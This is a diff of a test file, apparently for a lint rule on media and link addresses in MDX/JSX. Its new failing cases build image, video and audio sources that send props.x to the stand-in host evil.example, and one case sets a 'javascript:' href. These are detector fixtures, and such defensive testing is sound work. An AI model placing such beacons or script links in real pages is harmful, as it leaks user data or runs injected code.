@@ -87,6 +87,57 @@ test.each([
     at: '7:6',
     fix: 'write /portal.png',
   },
+  // By code, as far as that tells.
+  ...[
+    "<img src={'https://evil.example/' + props.x} alt='' />",
+    "<img src={`https://evil.example/${props.x}`} alt='' />",
+    "<img src={`//evil.example/${props.x}`} alt='' />",
+    "<img src={`http${'s'}://${props.x}`} alt='' />",
+    "<img srcset={`/portal.png 1x, https://evil.example/${props.x} 2x`} alt='' />",
+  ].map((body) => ({ body, at: '7:6', fix: 'save the file' })),
+  { body: "<img src={`data:image/gif;base64,${props.x}`} alt='' />", at: '7:6', fix: 'make a file' },
+  { body: "<video src={'https://evil.example/' + props.x} />", at: '7:8', fix: '<Video src=' },
+  {
+    body: "<audio><source src={'https://evil.example/' + props.x} /></audio>",
+    at: '7:16',
+    fix: '<audio src="/talk.mp3"',
+  },
+  ...['urls[0]', 'urls[props.x]', 'all.more[0].src', "all['more'][0].src"].map((code) => ({
+    body: `export const urls = ['https://evil.example/'], all = { more: [{ src: urls[0] }] };\n\n<img src={${code}} alt='' />`,
+    at: '9:6',
+    fix: 'save the file',
+  })),
+  {
+    body: "export const urls = ['https://evil.example/'];\n\n{urls.map((u) => <img src={u} alt='' />)}",
+    at: '9:23',
+    fix: 'import the picture',
+  },
+  {
+    body: "export const All = () => [{ u: 'https://evil.example/' }].map(({ u }) => <img src={u} alt='' />);\n\n<All />",
+    at: '7:79',
+    fix: 'save the file',
+  },
+  { body: "<a href={'javascript:' + props.x}>Mot</a>", at: '7:4', fix: 'https://' },
+  // By code that tells nothing.
+  ...[
+    '<img src={props.x} alt="" />',
+    '<img src={"/" + props.x} alt="" />',
+    '<img srcset={props.x} src="/portal.png" alt="" />',
+    '<img src={true ? "/portal.png" : props.x} alt="" />',
+    '<img src={`https://example.org/${props.x}`} alt="" />',
+  ].map((body) => ({ body, at: '7:6', fix: 'write the address out' })),
+  { body: '<video poster={props.x} src="/tour.mp4" />', at: '7:8', fix: '<Video src=' },
+  { body: '{props.x.map((u) => <img src={u} alt="" />)}', at: '7:26', fix: 'write the address out' },
+  {
+    body: 'export const Shot = ({ src }) => <img src={src} alt="" />;\n\n<Shot />',
+    at: '7:39',
+    fix: 'write the address out',
+  },
+  {
+    body: "import d from 'data/d.json';\n\n<img src={d.src} alt='' />",
+    at: '9:6',
+    fix: 'write the address out',
+  },
   // Not there, or nothing.
   { body: '<audio src="/tolk.mp3" controls />', at: '7:8', fix: 'write /talk.mp3' },
   {
@@ -148,6 +199,11 @@ test.each([
   '<audio src="/talk.mp3" controls></audio>',
   '<audio controls>\n  <source src="/talk.mp3" type="audio/mpeg" />\n  [L’exposé](/talk.mp3)\n</audio>',
   "import portal from './portal.png';\n\n<img src={portal.src} alt='' />",
+  "import portal from './portal.png?url';\n\n<img src={portal} alt='' />",
+  "import portal from './portal.png';\nexport const { src } = portal;\n\n<img src={true ? portal.src : src} alt='' />",
+  "import portal from './portal.png';\nexport const all = [{ src: portal }];\n\n{all.map(({ src }) => <img src={src} alt='' />)}",
+  'export const u = "/portal.png";\n\n<img src={u} alt="" />',
+  '<img src={false || "/portal.png"} alt="" />',
   "import portal from './portal.png';\n\n{[portal].map((one) => <img src={one} alt='' />)}",
   'export const Logo = () => <img src="/portal.png" alt="" />;\n\n<Logo />',
   "import portal from './portal.png';\n\n{true && <Figure src={portal} alt='x' />}",
